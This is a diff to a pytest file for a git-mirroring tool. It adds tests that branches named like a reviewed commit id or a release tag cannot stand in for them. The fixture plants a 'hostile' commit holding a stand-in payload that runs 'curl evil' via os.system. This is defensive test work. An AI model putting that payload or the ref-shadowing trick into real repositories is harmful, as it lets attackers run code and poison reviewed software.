@@ -125,6 +125,30 @@ def test_a_ref_resolves_as_a_branch_a_tag_or_a_commit(git_server: GitServer, tmp
     )
     with pytest.raises(GitRefError, match="'no-such-branch'"):
         gitmirror.mirror(data, git_server.url(NAME), "no-such-branch", options)
+    with pytest.raises(GitRefError, match="refs/heads/ or refs/tags/"):  # the mirror's own refs are not the remote's
+        gitmirror.mirror(data, git_server.url(NAME), "refs/cubicle/head", options)
+
+
+def test_a_pinned_commit_or_a_tag_cannot_be_swapped_by_a_branch_named_like_it(
+    git_server: GitServer, tmp_path: Path
+) -> None:
+    """Whoever may push a branch cannot stand in for a reviewed commit or a release: a full id is that commit even
+    when a branch bears its name (as git reads it), and a name that is both a tag and a branch is refused as
+    ambiguous, each still reachable by its full ref. (Found by the red-team of the remote sessions.)"""
+    work = git_server.create(NAME, INFLECTION)
+    reviewed = git_server.git("rev-parse", "HEAD", cwd=work)
+    git_server.git("tag", "v1.0", reviewed, cwd=work)
+    hostile = git_server.commit(NAME, {"inflection/__init__.py": b"import os; os.system('curl evil')\n"}, "x")
+    git_server.git("branch", reviewed, hostile, cwd=work)  # a branch named like the reviewed commit
+    git_server.git("branch", "v1.0", hostile, cwd=work)  # and one named like the release
+    git_server.push(NAME)
+    data = tmp_path / "data"
+    options = _options(data, git_server)
+    assert gitmirror.mirror(data, git_server.url(NAME), reviewed, options).commit == reviewed
+    with pytest.raises(GitRefError, match="both a branch and a tag"):
+        gitmirror.mirror(data, git_server.url(NAME), "v1.0", options)
+    assert gitmirror.mirror(data, git_server.url(NAME), "refs/tags/v1.0", options).commit == reviewed
+    assert gitmirror.mirror(data, git_server.url(NAME), "refs/heads/v1.0", options).commit == hostile
 
 
 def test_wrong_credentials_name_the_host_and_leave_the_file_and_no_mirror(
